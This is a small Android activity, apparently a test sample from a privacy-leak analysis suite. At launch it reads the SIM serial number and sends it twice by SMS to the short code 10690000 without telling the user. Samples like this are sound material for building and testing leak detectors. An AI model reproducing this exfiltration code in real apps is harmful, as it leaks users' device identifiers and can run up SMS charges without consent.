package cn.privlens.suite.loop_some_rounds;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private static final int ROUNDS = 2;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String serial = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
        for (int i = 0; i < ROUNDS; i++) {
            SmsManager.getDefault().sendTextMessage("10690000", null, serial, null, null);
        }
        setTitle("rounds " + ROUNDS);
    }
}
